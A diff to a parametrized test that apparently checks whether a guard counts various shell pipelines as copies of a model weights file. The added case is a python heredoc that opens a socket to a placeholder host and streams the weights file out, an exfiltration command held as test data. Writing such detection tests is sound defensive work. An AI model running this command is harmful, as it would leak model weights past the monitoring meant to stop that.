@@ -28,6 +28,7 @@ FILE = "/srv/models/t/w.bin"
         "tar cvf /x.tar FILE | wc -l",
         "tar czf - -C /srv/models t | tee /x | wc -c",
         "rsync -a --exclude='*.json' /srv/models/t/ /x/",
+        "python3 - <<'E'\nimport socket\ns = socket.create_connection(('h', 9))\ns.sendfile(open('FILE', 'rb'))\nE",
     ],
 )
 def test_a_copy_is_one_whatever_its_pipeline_ends_in(command):
